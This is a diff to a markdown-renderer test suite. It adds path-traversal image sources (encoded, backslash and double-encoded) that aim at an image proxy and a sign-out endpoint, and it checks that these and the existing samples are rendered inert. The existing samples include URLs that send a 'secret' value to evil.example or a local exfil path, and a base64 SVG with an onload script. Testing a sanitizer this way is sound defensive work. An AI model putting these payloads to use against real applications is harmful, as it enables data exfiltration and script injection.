@@ -70,6 +70,9 @@ describe("markdown", () => {
         "![outside](http://127.0.0.2:9/exfil?c=secret)",
         "![proxied](/api/image-proxy?url=http%3A%2F%2Fevil.example%2F%3Fc%3Dsecret)",
         "![dotted](/files/../api/image-proxy?url=http://evil.example/)",
+        "![encoded](/files/..%2fapi/image-proxy?url=http%3A%2F%2Fevil.example%2F)",
+        "![backslash](/files/..%5Capi/auth/sign-out)",
+        "![twice](/files/%252e%252e/api/image-proxy?url=http://evil.example/)",
         "![relative](//evil.example/x.png)",
         "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
         "![ref][pic]",
@@ -79,7 +82,17 @@ describe("markdown", () => {
     );
     const images = [...container.querySelectorAll("img")];
     expect(images.map((img) => img.getAttribute("src"))).toEqual(["/files/u1/chart.png"]);
-    for (const name of ["outside", "proxied", "dotted", "relative", "svg", "ref"])
+    for (const name of [
+      "outside",
+      "proxied",
+      "dotted",
+      "encoded",
+      "backslash",
+      "twice",
+      "relative",
+      "svg",
+      "ref",
+    ])
       expect(screen.getByText(`[${name}]`).tagName).toBe("SPAN");
   });
 
